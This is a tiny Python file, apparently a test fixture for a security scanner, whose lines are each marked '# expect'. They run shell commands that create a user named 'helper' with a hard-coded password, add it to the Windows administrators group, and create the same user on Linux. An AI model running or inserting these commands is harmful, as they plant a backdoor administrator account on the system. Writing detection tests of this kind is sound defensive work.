import os
import subprocess

os.system("net user helper Passw0rd /add")  # expect
os.system("net localgroup administrators helper /add")  # expect
subprocess.run("useradd -m helper", shell=True)  # expect
